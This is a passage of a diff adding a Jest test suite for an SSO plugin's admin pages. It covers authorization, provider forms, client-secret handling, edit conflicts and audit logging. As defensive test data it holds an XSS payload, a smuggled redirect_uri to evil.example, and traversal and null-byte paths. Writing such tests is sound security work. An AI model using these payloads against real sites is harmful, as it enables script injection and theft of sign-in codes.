@@ -1,0 +1,1049 @@
+import { randomUUID } from 'node:crypto'
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from '@jest/globals'
+import type { Request } from 'express'
+import { csvLine } from '../../lib/admin/events-csv.ts'
+import { blocksOf } from '../../lib/admin/markdown.ts'
+import { allFail, statesOf } from '../../lib/admin/provider-status.ts'
+import type { PortalSsoOptions } from '../../lib/index.ts'
+import { presets } from '../../lib/providers/presets/presets.ts'
+import type { Check, Provider } from '../../lib/providers/provider.ts'
+import { contoso, startEntraLookAlike } from '../support/entra-look-alike.ts'
+import { type FaultyProvider, startFaultyProvider } from '../support/faulty-provider.ts'
+import { holdPost } from '../support/held-post.ts'
+import { mountDefault, startPortal, type TestPortal } from '../support/portal.ts'
+import { signIn } from '../support/scene.ts'
+import { selfSigned } from '../support/self-signed.ts'
+import { type Seen, Visitor } from '../support/visitor.ts'
+
+let provider: FaultyProvider
+let other: FaultyProvider
+let portal: TestPortal
+/** signed in to nothing: the test's host believes a header */
+let admin: Visitor
+
+beforeAll(async () => {
+  provider = await startFaultyProvider()
+  other = await startFaultyProvider({ clientId: 'other' })
+})
+afterAll(() => Promise.all([provider.close(), other.close()]))
+beforeEach(() => {
+  provider.reset()
+  other.reset()
+  admin = new Visitor({ 'x-admin': 'yes' })
+})
+afterEach(() => portal.close())
+
+type Authorize = (req: Request) => boolean | Promise<boolean>
+
+async function open({
+  authorize = (req: Request) => req.get('x-admin') === 'yes',
+  ...options
+}: Partial<PortalSsoOptions> & { authorize?: Authorize } = {}): Promise<void> {
+  portal = await startPortal({
+    ...options,
+    mount(app, sso) {
+      mountDefault(app, sso)
+      app.use('/admin/sso', sso.admin({ authorize }))
+    },
+  })
+}
+
+/** With one provider, `acme`. */
+async function openWithAcme(options: Parameters<typeof open>[0] = {}): Promise<void> {
+  await open(options)
+  await portal.connect(provider)
+}
+
+const page = (path: string) => admin.get(`${portal.url}/admin/sso${path}`)
+const post = (path: string, form: Record<string, string> = {}) =>
+  admin.post(`${portal.url}/admin/sso${path}`, form)
+/** Through the redirect after it. */
+const done = async (path: string, form: Record<string, string> = {}) => {
+  const seen = await post(path, form)
+  expect([seen.status, seen.location]).toEqual([303, expect.any(String)])
+  return await admin.get(seen.location!)
+}
+const acme = async () => (await portal.sso.providers.find('acme'))!
+
+/** What a person reads, in one line. */
+function textOf({ body }: Seen): string {
+  return body
+    .replace(/<[^>]*>/g, ' ')
+    .replace(/&#34;/g, '"')
+    .replace(/&#39;/g, "'")
+    .replace(/&amp;/g, '&')
+    .replace(/\s+/g, ' ')
+    .replace(/ (?=[:?])/g, '')
+}
+
+const secret = 'the-client-secret-of-a-test'
+const entries = (from: FaultyProvider) => ({
+  displayName: 'Northwind ID',
+  slug: 'northwind',
+  issuer: from.issuer,
+  clientId: from.clientId,
+  clientSecret: from.clientSecret,
+})
+
+describe('who is no administrator', () => {
+  const paths = [
+    '/',
+    '/new',
+    '/new/generic',
+    '/events',
+    '/events.csv',
+    '/sessions',
+    '/sessions/end',
+    '/acme',
+    '/acme/edit',
+    '/acme/remove',
+    '/acme/what-is-read',
+    '/nothing/here/at/all',
+  ]
+
+  it.each([
+    ['false', () => false],
+    ['nothing', () => undefined as unknown as boolean],
+    ['something that is merely not nothing', () => 'yes' as unknown as boolean],
+    ['an error', () => Promise.reject(new Error('the directory is away'))],
+    [
+      'an error at once',
+      () => {
+        throw new Error('the directory is away')
+      },
+    ],
+  ])('finds no page there, whatever is asked for, when `authorize` gives %s', async (_what, authorize) => {
+    await openWithAcme({ authorize })
+    for (const path of paths) {
+      const seen = await page(path)
+      expect([path, seen.status]).toEqual([path, 404])
+      expect(seen.body).toContain('There is no such page')
+      expect(seen.headers.get('cache-control')).toBe('no-store')
+    }
+    // Neither method nor form makes a difference.
+    expect((await post('/acme/disable')).status).toBe(404)
+    expect((await acme()).enabled).toBe(true)
+    expect(portal.logs.at(-1)!.fields.code).toBe('page_unknown')
+  })
+
+  it('cannot tell a page that is there from one that is not', async () => {
+    await openWithAcme({ authorize: () => false })
+    const plain = (seen: Seen) => textOf(seen).replace(/[2-9A-Z]{8}/, 'REFERENCE')
+    expect(plain(await page('/acme'))).toBe(plain(await page('/nope')))
+  })
+
+  it.each<[why: string, end: (userId: string) => Promise<unknown>]>([
+    ['whose session has ended', (userId) => portal.sso.sessions.endAll({ userId })],
+    ['who was switched off', () => portal.knex('sso_users').update({ active: false })],
+  ])('is an administrator %s while a post was held open', async (_why, end) => {
+    await openWithAcme({ authorize: (req) => req.user !== undefined })
+    const { id } = await portal.sso.users.create(
+      { email: 'ada@example.com', name: 'Ada', fields: {} },
+      'default',
+    )
+    const visitor = new Visitor()
+    await signIn({ portal, visitor }, 'acme')
+    expect((await visitor.get(`${portal.url}/admin/sso/acme`)).status).toBe(200)
+    const goOn = await holdPost(portal, visitor, '/admin/sso/acme/disable', 'endSessions=no')
+    await end(id)
+    expect((await goOn()).statusCode).toBe(404)
+    expect((await acme()).enabled).toBe(true)
+  })
+
+  it('is everybody when a host forgets to say who is one: the portal does not start', async () => {
+    await open()
+    const forgotten = {} as { authorize: Authorize }
+    expect(() => portal.sso.admin(forgotten)).toThrow('admin: give `authorize`')
+    expect(() => portal.sso.admin(undefined as never)).toThrow('admin: give `authorize`')
+  })
+})
+
+describe('an admin page', () => {
+  it.each(['/%00', '/%00/edit', '/No+Slug', '/..%2facme'])(
+    '%s is none, and asks no database',
+    async (path) => {
+      await openWithAcme()
+      expect((await page(path)).status).toBe(404)
+      expect(portal.logs.filter(({ level }) => level === 'error')).toEqual([])
+    },
+  )
+
+  it.each([
+    '/',
+    '/new',
+    '/new/generic',
+    '/acme',
+    '/acme/edit',
+    '/acme/disable',
+    '/acme/remove',
+    '/events',
+    '/sessions',
+  ])('%s runs nothing inline, cannot be framed and is not stored', async (path) => {
+    await openWithAcme()
+    const { status, headers, body } = await page(path)
+    expect(status).toBe(200)
+    const policy = headers.get('content-security-policy')!
+    expect(policy).toContain("default-src 'none'")
+    expect(policy).toContain("form-action 'self'")
+    expect(policy).not.toContain('unsafe')
+    expect(headers.get('cache-control')).toBe('no-store')
+    expect(body).not.toMatch(/<script(?![^>]*\ssrc=)|<style|\sstyle=|\son\w+=|javascript:/i)
+    expect(body).toContain('<html lang="en"')
+  })
+
+  it('says only what we say of an act, whatever stands in its address', async () => {
+    await openWithAcme()
+    expect(textOf(await page('/?done=tested'))).toContain('Tested just now.')
+    for (const done of ['You+won', '<b>x</b>', '__proto__', 'constructor', 'toString'])
+      expect((await page(`/?done=${encodeURIComponent(done)}`)).body).not.toMatch(/role="status"/)
+    expect((await page('/?done=tested&done=saved')).body).not.toMatch(/role="status"/)
+  })
+
+  it('leads to where the host has mounted it', async () => {
+    portal = await startPortal({
+      mount(app, sso) {
+        mountDefault(app, sso)
+        app.use('/some/where', sso.admin({ authorize: () => true }))
+      },
+    })
+    await portal.connect(provider)
+    const { body } = await admin.get(`${portal.url}/some/where/acme`)
+    expect(body).toContain('href="/some/where/acme/edit"')
+    expect(body).not.toContain('/admin/sso')
+  })
+
+  it('of one portal shows no provider of another', async () => {
+    await openWithAcme({ portal: (req) => (req.get('x-portal') as string) ?? 'default' })
+    const south = { 'x-portal': 'south' }
+    expect((await admin.get(`${portal.url}/admin/sso/`, south)).body).not.toContain('Acme')
+    expect((await admin.get(`${portal.url}/admin/sso/acme`, south)).status).toBe(404)
+    const seen = await admin.post(`${portal.url}/admin/sso/acme/disable`, {}, south)
+    expect([seen.status, (await acme()).enabled]).toEqual([404, true])
+  })
+
+  it('shows what others say as text: providers, administrators, whoever was refused', async () => {
+    await openWithAcme()
+    const markup = '<img src=x onerror=alert(1)>'
+    await portal.sso.providers.update('acme', { displayName: `A${markup}` })
+    provider.faults.discovery = { token_endpoint_auth_methods_supported: [markup] }
+    await post('/acme/test')
+    await new Visitor().get(`${portal.url}/login/acme/callback?state=x&error=${encodeURIComponent(markup)}`)
+    for (const path of ['/', '/acme', '/acme/edit', '/acme/remove', '/acme/what-is-read', '/events']) {
+      const { status, body } = await page(path)
+      expect([path, status]).toEqual([path, 200])
+      expect(body).not.toContain('<img src=x')
+    }
+    expect(textOf(await page('/acme'))).toContain('&lt;img src=x')
+  })
+})
+
+describe('the list', () => {
+  it('leads to the first provider when there is none', async () => {
+    await open()
+    const { body } = await page('/')
+    expect(body).toContain('No provider is connected yet')
+    expect(body).toContain('href="/admin/sso/new"')
+  })
+
+  it('says of each whether people can use it, and what it was used for', async () => {
+    await openWithAcme()
+    await portal.sso.users.create({ email: 'ada@example.com', name: 'Ada', fields: {} }, 'default')
+    await signIn({ portal, visitor: new Visitor() }, 'acme')
+    await portal.connect(other, { slug: 'draft', displayName: 'Draft', enabled: false })
+    const text = textOf(await page('/'))
+    expect(text).toMatch(/Acme acme Ready Last sign-in \d+ \w+ \d{4}, \d\d:\d\d UTC Sign-ins in 30 days 1 /)
+    expect(text).toMatch(/Draft draft Disabled Not rehearsed Last sign-in never Sign-ins in 30 days 0 /)
+  })
+
+  it('tests all at once, and says how to get back to the classic login when none works', async () => {
+    await openWithAcme()
+    await portal.connect(other, { slug: 'other' })
+    provider.faults.jwksResponse = { status: 500 }
+    expect(textOf(await done('/test'))).toMatch(/Tested just now.*Keys unusable.*Ready/)
+    other.faults.discoveryDrop = true
+    const text = textOf(await done('/test'))
+    expect(text).toContain('At the last test no enabled provider worked')
+    expect(text).toContain('portal-sso break-glass')
+    expect(text).toContain('Cannot be reached')
+  })
+
+  it('moves a provider up and down; the recommended one comes first', async () => {
+    await openWithAcme()
+    await portal.connect(other, { slug: 'b', displayName: 'B' })
+    await portal.connect(other, { slug: 'c' })
+    const order = async () => (await portal.sso.providers.list()).map(({ slug }) => slug)
+    await done('/c/move', { direction: 'up', from: 'list' })
+    expect(await order()).toEqual(['acme', 'c', 'b'])
+    await done('/acme/move', { direction: 'down', from: 'list' })
+    expect(await order()).toEqual(['c', 'acme', 'b'])
+    // Nowhere to go: nothing happens.
+    await done('/c/move', { direction: 'up', from: 'list' })
+    expect(await order()).toEqual(['c', 'acme', 'b'])
+    await done('/b/recommend', { recommended: 'yes', from: 'list' })
+    expect(await order()).toEqual(['b', 'c', 'acme'])
+    expect(textOf(await page('/'))).toMatch(/B b Ready Recommended/)
+    await done('/b/recommend', { recommended: 'no', from: 'list' })
+    expect(await order()).toEqual(['c', 'acme', 'b'])
+  })
+})
+
+describe('the state of a provider', () => {
+  const ready = { enabled: true, rehearsedAt: '2026-11-01T00:00:00.000Z' } as Provider
+  const now = new Date('2026-11-25T12:00:00.000Z')
+  const failed = (name: string): Check => ({ name, result: 'failed', finding: 'x' })
+  const tested = (...checks: Check[]) => ({ tested: { at: now.toISOString(), checks } })
+  const expiring = (clientSecretExpiresAt: string) => ({ clientSecretExpiresAt })
+
+  it.each<[string, Partial<Provider>, string[]]>([
+    ['all is well', {}, ['Ready']],
+    ['it was never rehearsed', { enabled: false, rehearsedAt: undefined }, ['Disabled', 'Not rehearsed']],
+    ['it does not answer', tested(failed('reached')), ['Enabled', 'Cannot be reached']],
+    ['its keys are of no use', tested(failed('keys')), ['Enabled', 'Keys unusable']],
+    ['another check failed', tested(failed('issuer')), ['Enabled', 'Test failed']],
+    ['the secret has 61 days', expiring('2027-01-25T00:00:00.000Z'), ['Ready']],
+    [
+      'the secret has 60 days',
+      expiring('2027-01-24T00:00:00.000Z'),
+      ['Ready', 'Client secret expires in 60 days'],
+    ],
+    [
+      'the secret has a day',
+      expiring('2026-11-26T00:00:00.000Z'),
+      ['Enabled', 'Client secret expires in 1 day'],
+    ],
+    ['the secret has ended', expiring('2026-11-25T00:00:00.000Z'), ['Enabled', 'Client secret has expired']],
+    [
+      'the second secret ends',
+      { secondClientSecretExpiresAt: '2026-12-25T00:00:00.000Z' },
+      ['Ready', 'Second client secret expires in 30 days'],
+    ],
+    ['it retires', { retiringAt: '2026-12-01T00:00:00.000Z' }, ['Ready', 'Retiring on 1 December 2026']],
+  ])('when %s', (_when, change, states) => {
+    const told = statesOf({ ...ready, ...change }, undefined, now)
+    expect(told.map(({ text }) => text)).toEqual(states)
+  })
+
+  it('when an administrator has to consent', () => {
+    const activity = { lastSignInAt: undefined, signIns: 0, consentMissingAt: now.toISOString() }
+    expect(statesOf(ready, activity, now).map(({ text }) => text)).toEqual(['Enabled', 'Consent missing'])
+  })
+
+  it('is hopeless only when all that are enabled fail', () => {
+    const bad = { ...ready, ...tested(failed('reached')) }
+    expect(allFail([])).toBe(false)
+    expect(allFail([{ ...bad, enabled: false }])).toBe(false)
+    expect(allFail([bad, ready])).toBe(false)
+    expect(allFail([bad, { ...ready, enabled: false }])).toBe(true)
+  })
+})
+
+describe('connecting', () => {
+  it('offers the presets, each with its questions and the addresses to enter at the provider', async () => {
+    await open()
+    expect(textOf(await page('/new'))).toContain('Microsoft Entra ID')
+    const { body } = await page('/new/entra')
+    expect(body).toContain('Directory (tenant) ID')
+    expect(body).toContain(`value="${portal.url}/login/entra/callback"`)
+    expect(body).toContain(`value="${portal.url}/logout/done"`)
+    expect(body).toContain(`value="${portal.url}/logout/entra/backchannel"`)
+    expect(body).toContain(`value="${portal.url}/logout/entra/frontchannel"`)
+    expect((await page('/new/nothing')).status).toBe(404)
+  })
+
+  it('proposes a name that is free', async () => {
+    await open()
+    await portal.connect(provider, { slug: 'entra' })
+    expect((await page('/new/entra')).body).toContain('name="slug" type="text" value="entra-2"')
+  })
+
+  it('saves what passes the test as a draft, which nobody sees', async () => {
+    await open()
+    const seen = await done('/new/generic', { ...entries(provider), act: 'save' })
+    expect(seen.url).toBe(`${portal.url}/admin/sso/northwind?done=connected`)
+    expect(textOf(seen)).toContain('Saved as a draft')
+    expect(await portal.sso.providers.find('northwind')).toMatchObject({
+      enabled: false,
+      issuer: provider.issuer,
+      clientAuthentication: 'client_secret_basic',
+    })
+    expect((await new Visitor().get(`${portal.url}/login/northwind`)).status).toBe(404)
+  })
+
+  it('only tests when that is asked for', async () => {
+    await open()
+    const seen = await post('/new/generic', { ...entries(provider), act: 'test' })
+    expect([seen.status, textOf(seen)]).toEqual([200, expect.stringContaining('The test passed')])
+    expect(seen.body).toContain('value="Northwind ID"')
+    expect(await portal.sso.providers.list()).toEqual([])
+  })
+
+  it('tells all that is wrong at once, at the top and at the field; entries stay, and nothing is saved', async () => {
+    await open()
+    const seen = await post('/new/generic', {
+      displayName: '',
+      slug: 'Not A Slug',
+      issuer: 'no address',
+      clientId: 'the-client-id',
+      clientSecret: secret,
+      emailDomains: 'example.com, not/a/domain',
+      authorizationParameters: 'hd=example.com\nnonsense',
+      proxy: 'ftp://proxy.example.com',
+      certificateAuthority: 'no certificate',
+      clientSecretExpiresAt: 'tomorrow',
+      act: 'save',
+    })
+    expect(seen.status).toBe(422)
+    const text = textOf(seen)
+    const told = {
+      displayName: 'Enter the display name.',
+      slug: 'Write 1 to 40 lower-case letters',
+      issuer: 'Write a whole address such as https://id.example.com.',
+      emailDomains: '“not/a/domain”: write a domain',
+      authorizationParameters: 'Line 2: write name=value.',
+      proxy: 'Write an address such as “http://proxy.example.com:3128”.',
+      certificateAuthority: 'Give PEM certificates',
+      clientSecretExpiresAt: 'Write a date such as “2027-01-31”.',
+    }
+    for (const [name, sentence] of Object.entries(told)) {
+      expect([name, text.split(sentence).length - 1]).toEqual([name, 2])
+      expect(seen.body).toContain(`href="#field-${name}"`)
+      expect(seen.body).toMatch(new RegExp(`id="field-${name}"[^>]*aria-invalid="true"`))
+    }
+    expect(seen.body).toContain('value="the-client-id"')
+    expect(seen.body).toContain('hd=example.com')
+    expect(seen.body).not.toContain(secret)
+    expect(await portal.sso.providers.list()).toEqual([])
+  })
+
+  it('reads no entry that comes twice, and none that is ours to set', async () => {
+    await open()
+    const twice = await admin.post(`${portal.url}/admin/sso/new/generic`, [
+      ...Object.entries(entries(provider)),
+      ['slug', 'second'],
+    ])
+    expect(textOf(twice)).toContain('Write 1 to 40 lower-case letters')
+    const ours = { ...entries(provider), authorizationParameters: 'redirect_uri=https://evil.example' }
+    expect(textOf(await post('/new/generic', ours))).toContain(
+      'those are the plugin’s to set'.replace('’', "'"),
+    )
+    expect(await portal.sso.providers.list()).toEqual([])
+  })
+
+  it.each([
+    ['a reserved word', 'register', 'reserved word'],
+    ['one that is taken', 'acme', 'is connected already'],
+  ])('refuses %s as a name', async (_what, slug, sentence) => {
+    await openWithAcme()
+    const seen = await post('/new/generic', { ...entries(other), slug, act: 'save' })
+    expect([seen.status, textOf(seen)]).toEqual([422, expect.stringContaining(sentence)])
+    expect(await portal.sso.providers.list()).toHaveLength(1)
+  })
+
+  it.each<[string, FaultyProvider['faults'], string]>([
+    ['that does not answer', { discoveryDrop: true }, 'Reachable: failed No usable discovery document'],
+    ['that answers with HTML', { discoveryResponse: { body: '<html>' } }, 'Reachable: failed No usable'],
+    [
+      'without usable keys',
+      { jwksResponse: { body: '{"keys":[]}' } },
+      'Keys: failed The keys cannot be used: the key set holds no usable key for RS256',
+    ],
+    [
+      'that signs with HS256 only',
+      { discovery: { id_token_signing_alg_values_supported: ['HS256'] } },
+      'Signature: failed The provider does not announce RS256 for ID tokens, only HS256.',
+    ],
+  ])(
+    'says of a provider %s which check failed and what to do, and saves nothing',
+    async (_what, faults, line) => {
+      await open()
+      Object.assign(provider.faults, faults)
+      const seen = await post('/new/generic', { ...entries(provider), act: 'save' })
+      expect([seen.status, textOf(seen)]).toEqual([422, expect.stringContaining(line)])
+      expect(textOf(seen)).toContain('What to do:')
+      expect(seen.body).toContain(`value="${provider.issuer}"`)
+      expect(await portal.sso.providers.list()).toEqual([])
+    },
+  )
+
+  it('asks what the preset asks, and tells what is wrong with an answer', async () => {
+    await open()
+    const { displayName, slug, clientId } = entries(provider)
+    const seen = await post('/new/entra', { displayName, slug, clientId, 'answer.tenant': 'not a guid' })
+    expect(seen.status).toBe(422)
+    expect(seen.body).toMatch(/id="field-answer-tenant"[^>]*aria-invalid="true"/)
+    const trusting = { 'answer.tenant': 'organizations', trustsEmail: 'on', clientSecret: secret }
+    const noAuth = await post('/new/entra', { displayName, slug, clientId, ...trusting, act: 'save' })
+    expect(noAuth.status).toBe(422)
+    expect(noAuth.body).toMatch(/href="#field-trustsEmail"/)
+    const missing = await post('/new/entra', { displayName, slug, clientId })
+    expect(textOf(missing)).toContain('Enter the Directory (tenant) ID.')
+  })
+})
+
+describe('Entra', () => {
+  it('is connected by its tenant, and leads an administrator to the consent for all of it', async () => {
+    const entra = await startEntraLookAlike()
+    try {
+      await open()
+      const { clientId, clientSecret } = entra
+      const answers = { 'answer.tenant': contoso, issuer: entra.issuerOf(contoso) }
+      const { body } = await done('/new/entra', {
+        displayName: 'Contoso',
+        slug: 'contoso',
+        clientId,
+        clientSecret,
+        ...answers,
+        act: 'save',
+      })
+      expect(body).toContain('href="/login/contoso/admin-consent"')
+      expect(body).toContain(`value="${portal.url}/login/contoso/admin-consent/callback"`)
+      expect(body).toContain('href="/admin/sso/contoso/rebinding"')
+      expect(textOf(await page('/contoso/what-is-read'))).toContain('tid, oid')
+    } finally {
+      await entra.close()
+    }
+  })
+})
+
+describe('a client secret', () => {
+  it('never comes back to a browser, by whatever page', async () => {
+    await open()
+    const { clientSecret } = provider
+    const shown = [
+      await post('/new/generic', { ...entries(provider), displayName: '' }),
+      await post('/new/generic', { ...entries(provider), act: 'test' }),
+      await done('/new/generic', { ...entries(provider), act: 'save' }),
+      await page('/'),
+      await page('/northwind/edit'),
+      await page('/events'),
+      await page('/events.csv'),
+      await post('/northwind/edit', { displayName: '', clientSecret, version: '1' }),
+      await post('/northwind/edit', { clientSecret, secondClientSecret: secret, version: '77' }),
+    ]
+    for (const { body, status } of shown) {
+      expect(status).toBeLessThan(500)
+      expect(body).not.toContain(clientSecret)
+      expect(body).not.toContain(secret)
+    }
+    expect(JSON.stringify([portal.logs, await portal.knex('sso_events')])).not.toContain(clientSecret)
+  })
+
+  it('is kept when its field stays empty, and taken away only where that is ticked', async () => {
+    await openWithAcme()
+    const saved = async () => (await portal.knex('sso_providers').first('client_secret')).client_secret
+    const before = await saved()
+    const form = { displayName: 'Acme Corp', issuer: provider.issuer, clientId: provider.clientId }
+    await done('/acme/edit', { ...form, version: String((await acme()).version) })
+    expect([(await acme()).displayName, await saved()]).toEqual(['Acme Corp', before])
+
+    provider.faults.discovery = { token_endpoint_auth_methods_supported: ['client_secret_basic', 'none'] }
+    provider.faults.publicClient = true
+    const version = String((await acme()).version)
+    const without = { ...form, clientAuthentication: 'none', 'remove.clientSecret': 'on', version }
+    await done('/acme/edit', without)
+    expect([(await acme()).clientAuthentication, await saved()]).toEqual(['none', null])
+  })
+})
+
+describe('a key of ours (private_key_jwt)', () => {
+  it('is made with the draft, shown with the address at which the provider reads it, and exchanged', async () => {
+    await open()
+    provider.faults.discovery = {
+      token_endpoint_auth_methods_supported: ['private_key_jwt'],
+      token_endpoint_auth_signing_alg_values_supported: ['RS256'],
+    }
+    const { clientSecret: _, ...form } = entries(provider)
+    const seen = await done('/new/generic', { ...form, clientAuthentication: 'private_key_jwt', act: 'save' })
+    expect(seen.body).toContain(`value="${portal.url}/login/northwind/jwks.json"`)
+    expect(textOf(seen).match(/RS256, signs now/g)).toHaveLength(1)
+    expect(textOf(await done('/northwind/rotate-key'))).toMatch(/signs now.*signs from|signs from.*signs now/)
+    expect((await page('/northwind')).body).not.toContain('"d"')
+  })
+})
+
+describe('editing', () => {
+  const form = async (changes: Record<string, string> = {}) => ({
+    displayName: 'Acme',
+    issuer: provider.issuer,
+    clientId: provider.clientId,
+    version: String((await acme()).version),
+    ...changes,
+  })
+
+  it('shows what is saved, saves what was changed, and takes back what was emptied', async () => {
+    await openWithAcme()
+    await portal.sso.providers.update('acme', { prompt: 'login', emailDomains: ['example.com'] })
+    const { body } = await page('/acme/edit')
+    expect(body).toContain('value="example.com"')
+    expect(body).toMatch(/<option value="login" selected>/)
+    const changes = {
+      emailDomains: 'example.org example.net',
+      trustsEmail: 'on',
+      prompt: '',
+      logout: 'portal',
+      frontChannelLogout: 'on',
+    }
+    await done('/acme/edit', await form(changes))
+    expect(await acme()).toMatchObject({
+      emailDomains: ['example.org', 'example.net'],
+      trustsEmail: true,
+      prompt: undefined,
+      logout: 'portal',
+      frontChannelLogout: true,
+    })
+    const shown = await page('/acme')
+    expect(shown.body).toContain(`value="${portal.url}/logout/acme/frontchannel"`)
+    expect((await page('/acme/edit')).body).toMatch(/name="frontChannelLogout"[^>]* checked/)
+    await done('/acme/edit', await form())
+    expect(await acme()).toMatchObject({
+      emailDomains: [],
+      trustsEmail: false,
+      logout: 'provider',
+      frontChannelLogout: false,
+    })
+    expect((await page('/acme')).body).not.toContain('/frontchannel')
+  })
+
+  it('tells the second of two administrators, whose entries are not lost, beside what was saved', async () => {
+    await openWithAcme()
+    const mine = await form({ displayName: 'Mine', prompt: 'login' })
+    await done('/acme/edit', await form({ displayName: 'Theirs', emailDomains: 'example.com' }))
+    const seen = await post('/acme/edit', mine)
+    expect(seen.status).toBe(409)
+    const text = textOf(seen)
+    expect(text).toContain('Somebody else has changed it meanwhile')
+    expect(text).toContain('Display name Theirs Mine')
+    expect(text).toContain('E-mail domains example.com –')
+    expect(seen.body).toContain('name="displayName" type="text" value="Mine"')
+    expect((await acme()).displayName).toBe('Theirs')
+
+    // Having read it, he may.
+    const [, version = ''] = /name="version" value="(\d+)"/.exec(seen.body) ?? []
+    await done('/acme/edit', { ...mine, version })
+    expect((await acme()).displayName).toBe('Mine')
+  })
+
+  it('never writes over a row without saying which one it has seen', async () => {
+    await openWithAcme()
+    for (const version of ['', 'x', '-1', 'NaN'])
+      expect((await post('/acme/edit', await form({ displayName: 'Blind', version }))).status).toBe(409)
+    expect((await acme()).displayName).toBe('Acme')
+  })
+
+  it('saves nothing that would not work, and says which check failed', async () => {
+    await openWithAcme()
+    const seen = await post('/acme/edit', await form({ signingAlgorithm: 'ES512' }))
+    expect([seen.status, textOf(seen)]).toEqual([422, expect.stringContaining('Signature: failed')])
+    expect((await acme()).signingAlgorithm).toBe('RS256')
+  })
+
+  it('takes certificates for the same whatever ends their lines, and asks for no secret then', async () => {
+    await open()
+    const certificate = selfSigned('id.acme.example').cert.trim()
+    await portal.connect(provider, { certificateAuthority: certificate })
+    const inForm = certificate.replaceAll('\n', '\r\n')
+    const renamed = await form({ displayName: 'Renamed', certificateAuthority: inForm })
+    await done('/acme/edit', renamed)
+    expect(await acme()).toMatchObject({
+      displayName: 'Renamed',
+      certificateAuthority: `${certificate}\n`,
+    })
+  })
+
+  it('asks for the secret again when the issuer moves: it must not be sent wherever somebody likes', async () => {
+    await openWithAcme()
+    const seen = await post('/acme/edit', await form({ issuer: other.issuer }))
+    expect(seen.status).toBe(422)
+    expect(textOf(seen)).toContain('Give the client secret again when the issuer moves.')
+    expect(other.requests.filter(({ path }) => path === '/token')).toEqual([])
+  })
+})
+
+describe('a provider whose keys were sealed under a secret that is gone', () => {
+  it('still has its page, which says so: it can be disabled and removed there', async () => {
+    await open()
+    provider.faults.clientKeysAt = portal.sso.providers.jwksUri('acme')
+    await portal.connect(provider, { clientSecret: undefined, clientAuthentication: 'private_key_jwt' })
+    const before = portal
+    await open({ database: before.knex, secret: 'quite-another-secret-longer-than-32-characters' })
+    const seen = await page('/acme')
+    expect([seen.status, textOf(seen)]).toEqual([200, expect.stringContaining('under another SSO_SECRET')])
+    await done('/acme/remove')
+    await portal.close()
+    portal = before
+  })
+})
+
+describe('a new provider', () => {
+  it('is not offered the name of one that can be restored: it would be forgotten', async () => {
+    await open()
+    await portal.connect(provider, { slug: 'sso' })
+    await portal.sso.providers.remove('sso')
+    expect((await page('/new/generic')).body).toContain('name="slug" type="text" value="sso-2"')
+  })
+})
+
+describe('an address to enter at the provider', () => {
+  it('follows the name that is typed also where the portal is mounted at a path of that name', async () => {
+    portal = await startPortal({
+      mountPath: '/sso',
+      mount: (app, sso) => app.use('/admin/sso', sso.session(), sso.admin({ authorize: () => true })),
+    })
+    const { body } = await page('/new/generic')
+    expect(body).toContain(`value="${portal.url}/sso/login/sso/callback"`)
+    expect(body).toContain(`data-template="${portal.url}/sso/login/{slug}/callback"`)
+    expect(body).toContain(`data-template="${portal.url}/sso/logout/{slug}/backchannel"`)
+  })
+})
+
+describe('an act of an administrator', () => {
+  it('is told with all that it changed: something long beside it pushes nothing out', async () => {
+    await openWithAcme()
+    const authorizationParameters = { hint: '"'.repeat(900), other: 'x'.repeat(900) }
+    const emailDomains = ['mallory.example']
+    await portal.sso.providers.update('acme', { authorizationParameters, trustsEmail: true, emailDomains })
+    const [{ detail }] = await portal.knex('sso_events').where({ kind: 'provider-changed' })
+    const { change, before, after } = JSON.parse(detail)
+    expect(change).toBe('authorizationParameters, trustsEmail, emailDomains')
+    expect(JSON.parse(before)).toEqual({ authorizationParameters: {}, trustsEmail: false, emailDomains: [] })
+    expect(JSON.parse(after)).toEqual({
+      authorizationParameters: expect.stringMatching(/^\{"hint":".+…$/),
+      trustsEmail: true,
+      emailDomains,
+    })
+  })
+
+  it('is written down also when it takes a recommendation away', async () => {
+    await openWithAcme()
+    await portal.connect(other, { slug: 'other' })
+    const { providers } = portal.sso
+    await providers.recommend('acme', { by: 'ada' })
+    await providers.recommend('other', { by: 'bob' })
+    await providers.recommend(undefined, { by: 'eve' })
+    const acts = await portal.knex('sso_events').where({ kind: 'provider-changed' }).orderBy('at')
+    expect(acts.map(({ provider: slug, actor, detail }) => [slug, actor, JSON.parse(detail).change])).toEqual(
+      expect.arrayContaining([
+        ['acme', 'ada', 'recommended'],
+        ['other', 'bob', 'recommended'],
+        ['acme', 'bob', 'no longer recommended'],
+        ['other', 'eve', 'no longer recommended'],
+      ]),
+    )
+    expect(acts).toHaveLength(4)
+  })
+
+  it('is written down with who did it', async () => {
+    await openWithAcme({ authorize: (req) => req.user !== undefined })
+    const ada = await portal.sso.users.create(
+      { email: 'ada@example.com', name: 'Ada', fields: {} },
+      'default',
+    )
+    admin = new Visitor()
+    await signIn({ portal, visitor: admin }, 'acme')
+    await done('/new/generic', { ...entries(other), act: 'save' })
+    await done('/northwind/recommend', { recommended: 'yes' })
+    await done('/northwind/enable', { withoutRehearsal: 'yes' })
+    await done('/northwind/disable')
+    await done('/northwind/remove')
+    const acts = await portal.knex('sso_events').where({ provider: 'northwind' }).select('kind', 'actor')
+    expect(acts.length).toBeGreaterThanOrEqual(5)
+    for (const { actor } of acts) expect(actor).toBe(ada.id)
+  })
+
+  it('says what is missing when it cannot be done', async () => {
+    await open()
+    await portal.connect(provider, { enabled: false })
+    const seen = await post('/acme/enable')
+    expect(seen.status).toBe(422)
+    expect(seen.body).toContain('role="alert"')
+    expect(textOf(seen)).toMatch(/rehears/i)
+    expect((await acme()).enabled).toBe(false)
+    await done('/acme/enable', { withoutRehearsal: 'yes' })
+    expect((await acme()).enabled).toBe(true)
+  })
+
+  it('counts at the next click: enabled and disabled', async () => {
+    await open()
+    await portal.connect(provider)
+    await portal.connect(other, { slug: 'other', displayName: 'Other', enabled: false })
+    const offered = async () => (await new Visitor().get(`${portal.url}/login`)).body.includes('/login/other')
+    expect(await offered()).toBe(false)
+    await done('/other/enable', { withoutRehearsal: 'yes' })
+    expect(await offered()).toBe(true)
+    expect(textOf(await page('/other/disable'))).toContain('For whom it is the only way in')
+    await done('/other/disable')
+    expect(await offered()).toBe(false)
+  })
+
+  it('that removes asks before, says whom it concerns, and can be taken back', async () => {
+    await openWithAcme()
+    await portal.sso.users.create({ email: 'ada@example.com', name: 'Ada', fields: {} }, 'default')
+    await signIn({ portal, visitor: new Visitor() }, 'acme')
+    expect(textOf(await page('/acme/remove'))).toMatch(
+      /People who have signed in with it 1 For whom it is the only way in 1 /,
+    )
